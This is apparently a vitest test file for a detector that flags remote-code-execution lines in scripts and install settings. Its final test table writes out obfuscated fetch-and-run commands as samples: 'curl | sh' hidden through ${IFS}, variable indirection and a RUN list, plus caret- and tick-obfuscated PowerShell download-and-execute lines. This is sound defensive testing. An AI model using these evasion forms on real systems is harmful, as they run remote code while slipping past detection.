import { describe, expect, it } from 'vitest';
import { INSTALL_ROWS, installsIn } from './installs.ts';
import { SCRIPT_ROWS } from './script-rows.ts';
import { judgeScript } from './scripts.ts';

describe('rows of scripts and of settings that install', () => {
  const rows = [...SCRIPT_ROWS, ...INSTALL_ROWS];
  it.each(rows.flatMap(({ pattern, fires }) => fires.map((line) => [line, pattern] as const)))(
    '%s fires',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(true);
    },
  );

  it.each(rows.flatMap(({ pattern, quiet }) => quiet.map((line) => [line, pattern] as const)))(
    '%s does not',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(false);
    },
  );

  it.each(SCRIPT_ROWS.flatMap(({ quiet }) => quiet))('no row minds %s', (line) => {
    expect(judgeScript(line)).toBeNull();
  });

  it.each(INSTALL_ROWS.flatMap(({ quiet }) => quiet))('no setting minds %s', (line) => {
    expect(installsIn(line)).toBe(false);
  });

  it.each([
    ['continued', 'curl -s http://127.0.0.1:9/x \\\n  | sh', 'fetched-code'],
    ['with carets', 'p^o^w^e^r^s^h^e^l^l -e^n^c SQBFAFgAIAAoAE4A', 'attacking-script'],
    ['with ticks', 'I`nvoke-Expre`ssion (New-Object Net.WebClient).DownloadString("x")', 'attacking-script'],
    ['with blanks out of a variable', 'curl${IFS}http://127.0.0.1:9/x|sh', 'fetched-code'],
    ['in names', 'c=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that meant something else before', 'c=echo\nc=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that mean something else later', 'c=curl\n$c http://127.0.0.1:9/x | sh\nc=echo', 'fetched-code'],
    ['beside a lure', 'x=1\nu=\ncurl "$u" | sh', 'fetched-code'],
    ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
  ])('a line %s is one line', (_, text, rule) => {
    expect(judgeScript(text)?.rule.id).toBe(`remote-code/${rule}`);
  });
});
